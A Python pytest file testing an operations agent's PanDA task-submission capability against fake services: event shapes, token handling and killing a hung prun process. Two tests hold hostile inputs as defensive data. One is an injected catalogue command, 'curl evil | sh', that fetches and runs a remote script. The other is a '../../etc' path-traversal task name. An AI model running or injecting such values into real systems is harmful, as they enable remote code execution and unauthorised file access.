"""Through a real host (dispatch, journal, process isolation) on the in-memory transport:
exactly one event per job, in the old agent's three shapes."""

from __future__ import annotations

import time
from collections.abc import Callable
from pathlib import Path
from typing import Any

import opsagent_submit_task
import pytest
from opsagent.testing import FakeCredentials, Harness, processes_with_env
from submit_task_fakes import FakeCatalogue, FakePanda
from submit_task_support import PRUN_MARK, TASK, OperatorToken, environ_of, prun_mark


@pytest.fixture
def host(
    opsagent_harness: Callable[..., Harness],
    opsagent_credentials: FakeCredentials,
    pcs: FakeCatalogue,
    panda: FakePanda,
    operator_token: OperatorToken,
) -> Harness:
    opsagent_credentials.add("pcs_token", "pcs-secret\n")
    return opsagent_harness(
        modules=[opsagent_submit_task],
        config={
            **opsagent_credentials.config(),
            "credentials.panda_oidc_token": {"file": str(operator_token.path)},
            "capability.submit_task": {
                "monitor_url": pcs.url,
                "pcs_timeout": 3,
                "prun_timeout": 30,
                "record_backoff": 0.05,
            },
            "capability.submit_task.panda_env": panda.env(),
        },
    )


def only_event(host: Harness, request_id: str) -> dict[str, Any]:
    host.wait_for(request_id)
    host.join()
    events = [e for e in host.events if request_id in (e.get("request_id"), e.get("job_id"))]
    assert len(events) == 1, host.events
    return events[0]


def test_submitted(host: Harness, pcs: FakeCatalogue, panda: FakePanda) -> None:
    rid = host.publish("submit_task", {"task_name": TASK, "owner": "alice"})
    event = only_event(host, rid)
    assert {
        k: event[k]
        for k in ("msg_type", "task_name", "jedi_task_id", "ok", "outcome", "sender", "namespace")
    } == {
        "msg_type": "prodtask_submitted",
        "task_name": TASK,
        "jedi_task_id": "41000",
        "ok": True,
        "outcome": "ok",
        "sender": "harness",
        "namespace": "prodops",
    }
    assert pcs.tasks[TASK]["panda_task_id"] == 41000
    assert pcs.record_requests[0].header("Authorization") == "Token pcs-secret"
    assert len(panda.tasks) == 1


def test_submit_unrecorded(host: Harness, pcs: FakeCatalogue) -> None:
    pcs.record_plan = [500, 500, 500]
    event = only_event(host, host.publish("submit_task", {"task_name": TASK}))
    assert event["msg_type"] == "prodtask_submit_unrecorded"
    assert event["outcome"] == "unrecorded" and event["ok"] is False
    assert event["task_name"] == TASK and event["jedi_task_id"] == "41000"
    assert "PanDA task 41000 WAS submitted" in event["reason"]
    assert "pcs-secret" not in str(event)


def test_submit_failed(host: Harness, pcs: FakeCatalogue, panda: FakePanda) -> None:
    pcs.tasks[TASK]["panda_command"] = "prun --outDS x; curl evil | sh"
    event = only_event(host, host.publish("submit_task", {"task_name": TASK}))
    assert event["msg_type"] == "prodtask_submit_failed"
    assert event["outcome"] == "error" and event["task_name"] == TASK
    assert "command separator ';'" in event["reason"]
    assert "jedi_task_id" not in event
    assert panda.server.requests == []


def test_invalid_task_name_is_rejected_before_any_work(host: Harness, pcs: FakeCatalogue) -> None:
    answer = host.send("submit_task", {"task_name": "../../etc"})
    assert answer["msg_type"] == "request_rejected"
    assert "$.task_name: expected a catalogue task name, got '../../etc'" in str(answer)
    assert pcs.server.requests == []


def test_a_host_that_stops_the_job_while_prun_runs_takes_prun_down_too(
    opsagent_harness: Callable[..., Harness],
    opsagent_credentials: FakeCredentials,
    pcs: FakeCatalogue,
    panda: FakePanda,
    operator_token: OperatorToken,
    tmp_path: Path,
) -> None:
    # prun runs in a session of its own (so that its own limit kills all it started);
    # the host's signal to the job's process group must still reach it.
    panda.submit_behaviour = "hang"
    opsagent_credentials.add("pcs_token", "pcs-secret\n")
    h = opsagent_harness(
        modules=[opsagent_submit_task],
        config={
            **opsagent_credentials.config(),
            "host": {"drain_seconds": 0.5, "kill_grace_seconds": 2},
            "credentials.panda_oidc_token": {"file": str(operator_token.path)},
            "capability.submit_task": {"monitor_url": pcs.url, "pcs_timeout": 3},
            "capability.submit_task.panda_env": {**panda.env(), PRUN_MARK: panda.url},
        },
    )
    h.publish("submit_task", {"task_name": TASK})
    deadline = time.monotonic() + 20
    while not panda.submit_requests and time.monotonic() < deadline:
        time.sleep(0.05)
    assert panda.submit_requests, "prun never reached the PanDA server"
    pruns = processes_with_env(prun_mark(panda))
    assert pruns  # prun is running, in its private sandbox
    sandbox = Path(environ_of(pruns[0])["HOME"])
    assert (sandbox / "panda" / ".token").is_file()

    started = time.monotonic()
    h.stop()
    assert time.monotonic() - started < 6
    time.sleep(0.2)
    assert processes_with_env(prun_mark(panda)) == []
    assert not sandbox.exists()  # the token copy went with it
    assert not (tmp_path / "h0" / "cache" / "submit").exists()
